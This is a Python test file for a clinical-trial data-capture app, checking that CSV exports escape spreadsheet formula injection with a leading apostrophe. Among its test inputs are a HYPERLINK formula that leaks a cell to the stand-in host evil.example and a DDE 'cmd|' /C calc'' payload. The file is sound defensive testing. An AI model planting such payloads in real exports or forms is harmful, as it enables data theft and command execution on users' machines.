"""A spreadsheet opening an export never runs what someone typed: a typed text that would start
a formula (= + - @, a tab) is written to the CSV files with a leading apostrophe, which a
spreadsheet reads as "this is text" and does not show; the page, the database and the SAS
transport file keep it as typed. Numbers and the app's own codes are written as they are."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from flask import Flask
from flask.testing import FlaskClient

from edc import db, exports
from edc.exports import as_text
from edc.permissions import Role
from tests.support import factories
from tests.support.pages import page

AT = datetime(2026, 4, 27, 8, 30, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FEVER = {"term": FORMULA, "onset_date": "2026-03-02", "end_date": "2026-03-03",
         "ongoing": "no", "grade": "2", "serious": "no", "relation": "PROBABLE",
         "infusion": "1", "action": ["MEDICATION"], "outcome": "RECOVERED"}


def export(app: Flask, kind: str, role: str = Role.MONITOR) -> bytes:
    with app.app_context():
        file = io.BytesIO()
        exports.write(db.session(), app.extensions["edc_study"], kind, role, file, AT)
        return file.getvalue()


def member(data: bytes, name: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read(name).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(("typed", "written"), [
    (FORMULA, "'" + FORMULA), ("+1+1", "'+1+1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    # What is not a formula stays: a signed number, an ordinary text, a number.
    ("-2", "-2"), ("+3", "+3"), ("-0.5e3", "-0.5e3"), ("Fever", "Fever"), ("a=b", "a=b"),
    ("", ""), (None, None), (7, 7)])
def test_a_typed_text_that_would_start_a_formula_is_written_as_text(typed, written) -> None:
    assert as_text(typed) == written


def test_an_adverse_event_term_typed_as_a_formula_is_text_in_the_csv_and_as_typed_elsewhere(
        app: Flask, nurse: FlaskClient, allocation: None) -> None:
    pid = factories.child(app, "scheduled")
    saved = nurse.post(f"/participants/{pid}/log/adverse_events/new", data=FEVER)
    assert saved.status_code == 302, page(saved).errors
    # The page shows it as typed (escaped), the database keeps it as typed.
    assert FORMULA in page(nurse.get(f"/participants/{pid}/log/adverse_events")).text
    [ae] = member(export(app, "csv"), "ae.csv")
    assert ae["AETERM"] == "'" + FORMULA
    # The app's own columns of the same row are untouched.
    assert ae["AESTDTC"] == "2026-03-02" and ae["AESPID"] == "adverse_events-1"
    with zipfile.ZipFile(io.BytesIO(export(app, "xpt"))) as archive:
        transport = archive.read("ae.xpt")
    assert FORMULA.encode() in transport and ("'" + FORMULA).encode() not in transport


def test_a_failed_log_in_typed_as_a_formula_is_text_in_the_audit_export(app: Flask) -> None:
    stranger = app.test_client()
    refused = stranger.post("/login", data={"username": "=1+2", "password": "wrong"})
    assert refused.status_code == 401
    # The log-ins are in the export of who manages the accounts.
    text = export(app, "audit", Role.ADMIN).decode("utf-8-sig")
    failed = [r for r in csv.DictReader(io.StringIO(text)) if r["entity"] == "login_attempt"]
    assert failed and {r["username"] for r in failed} == {"'=1+2"}
